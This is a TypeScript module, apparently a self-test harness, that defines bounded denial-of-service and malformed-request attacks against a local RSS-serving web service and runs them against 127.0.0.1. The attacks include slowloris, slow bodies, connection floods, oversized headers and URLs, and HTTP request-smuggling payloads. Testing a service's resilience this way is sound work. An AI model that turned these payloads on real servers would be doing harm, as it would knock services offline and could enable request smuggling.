/**
 * What somebody does who wants others not to be served: each attack as a number of connections and what they send.
 *
 * All of it is bounded: so many connections, so many seconds, this machine alone.
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';

const HOST = 'Host: a\r\n';
const GET = `GET /rss.xml HTTP/1.1\r\n${HOST}`;
const POLL = `${GET}If-None-Match: *\r\n\r\n`;
const POST = `POST /rss.xml HTTP/1.1\r\n${HOST}`;
const MEGABYTE = 'a'.repeat(1 << 20);

/** An attack. */
export interface Attack {
  readonly name: string;
  /** Connections held at once. */
  readonly connections: number;
  /** What each connection sends as soon as it stands; one after another when there are several. */
  readonly sends: readonly string[];
  /** Sent again and again after it, every half second. */
  readonly drips?: string;
  readonly reads: 'all' | 'all, then asks again' | 'nothing';
  /** How long it has to last at least to meet the service's limits. */
  readonly secondsMin?: number;
}

/** All of them. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow heads (slowloris)',
    connections: 2_000,
    sends: [GET],
    drips: 'X-a: b\r\n',
    reads: 'all',
    secondsMin: 18,
  },
  { name: 'silent connections', connections: 2_000, sends: [''], reads: 'all', secondsMin: 18 },
  {
    name: 'slow bodies',
    connections: 1_000,
    sends: [`${POST}Content-Length: 9999\r\n\r\n`],
    drips: 'a',
    reads: 'all',
  },
  {
    name: 'answers that nobody reads',
    connections: 300,
    sends: [`${GET}\r\n`.repeat(50)],
    reads: 'nothing',
    secondsMin: 36,
  },
  { name: '10,000 idle connections', connections: 10_000, sends: [POLL], reads: 'all' },
  {
    name: 'heads of 64 KB',
    connections: 50,
    sends: [`${GET}X: ${MEGABYTE.slice(0, 65_536)}\r\n\r\n`],
    reads: 'all',
  },
  {
    name: 'addresses of 1 MB',
    connections: 20,
    sends: [`GET /${MEGABYTE} HTTP/1.1\r\n${HOST}\r\n`],
    reads: 'all',
  },
  {
    name: 'broken percent-encodings',
    connections: 50,
    sends: ['/%zz', '/articles/%E0%A4', '/%c0%af', '/assets/%zz/a', '/rss.xml?%zz'].map(
      (path) => `GET ${path} HTTP/1.1\r\n${HOST}\r\n`,
    ),
    reads: 'all, then asks again',
  },
  {
    name: 'smuggled requests',
    connections: 50,
    sends: [
      `${POST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${POLL}`,
      `${POST}Content-Length: 0\r\nContent-Length: 44\r\n\r\n${POLL}`,
      `${GET}X: a\r\n b\r\n\r\n`,
      `GET /rss.xml HTTP/1.1\n${HOST}\n`,
      `${GET}Host: b\r\n\r\n`,
    ],
    reads: 'all',
  },
  {
    name: 'HTTP/1.0, whole feeds',
    connections: 50,
    sends: ['GET /rss.xml HTTP/1.0\r\n\r\n'],
    reads: 'all',
  },
  {
    name: '500 requests in one go',
    connections: 20,
    sends: [POLL.repeat(500)],
    reads: 'all, then asks again',
  },
  {
    name: 'HEADs',
    connections: 200,
    sends: [`HEAD /rss.xml HTTP/1.1\r\n${HOST}\r\n`],
    reads: 'all, then asks again',
  },
  {
    name: 'pages that are nowhere',
    connections: 50,
    sends: [`GET /nothing HTTP/1.1\r\n${HOST}\r\n`],
    reads: 'all, then asks again',
  },
];

const DRIP_MS = 500;
/** Connections opened together, and the pause after them: whoever opens 10,000 in an instant attacks the kernel. */
const OPENED_TOGETHER = 250;
const OPENING_MS = 20;
/** Descriptors that an attacker needs for itself. */
const DESCRIPTORS_KEPT = 200;

/** What an attack came to. */
export interface Havoc {
  /** The most connections that stood at once. */
  readonly connections: number;
  readonly answers: number;
  /** Connections that the service ended. */
  readonly ended: number;
}

/** The most connections that a process may hold on this machine. */
export function connectionsAllowed(): number {
  const [, limit] = /^Max open files\s+\S+\s+(\S+)/m.exec(readFileSync('/proc/self/limits', 'utf8')) ?? [];
  return limit === undefined || limit === 'unlimited'
    ? Number.MAX_SAFE_INTEGER
    : Number(limit) - DESCRIPTORS_KEPT;
}

/** Attacks a port of this machine for some seconds. */
export async function attack(
  port: number,
  { connections, sends, drips, reads }: Attack,
  seconds: number,
): Promise<Havoc> {
  const sockets = new Set<Socket>();
  const counts = { connections: 0, answers: 0, ended: 0 };
  let isOver = false;
  let turn = 0;
  const open = () => {
    const socket = connect({ host: '127.0.0.1', port });
    let owed = 0;
    const send = () => {
      const bytes = sends[turn++ % sends.length]!;
      owed = bytes.split(' HTTP/1.').length - 1;
      if (bytes !== '') socket.write(bytes, 'latin1');
    };
    socket.on('connect', () => {
      sockets.add(socket);
      counts.connections = Math.max(counts.connections, sockets.size);
      if (reads === 'nothing') socket.pause();
      send();
    });
    if (reads !== 'nothing') {
      socket.on('data', (some: Buffer) => {
        const answers = some.toString('latin1').split('HTTP/1.1 ').length - 1;
        counts.answers += answers;
        owed -= answers;
        if (reads === 'all, then asks again' && owed <= 0 && answers > 0) send();
      });
    }
    socket.on('error', () => undefined); // being cut off is what an attacker has to expect
    socket.on('close', () => {
      sockets.delete(socket);
      if (isOver) return;
      counts.ended += 1;
      setTimeout(open, 5);
    });
  };
  const dripping = setInterval(() => {
    if (drips !== undefined) for (const socket of sockets) socket.write(drips);
  }, DRIP_MS);
  const wanted = Math.min(connections, connectionsAllowed());
  const began = performance.now();
  for (let opened = 0; opened < wanted; opened += OPENED_TOGETHER) {
    for (let each = opened; each < Math.min(wanted, opened + OPENED_TOGETHER); each++) open();
    await new Promise((resolve) => setTimeout(resolve, OPENING_MS));
  }
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000 - (performance.now() - began)));
  isOver = true;
  clearInterval(dripping);
  for (const socket of sockets) socket.destroy();
  return counts;
}
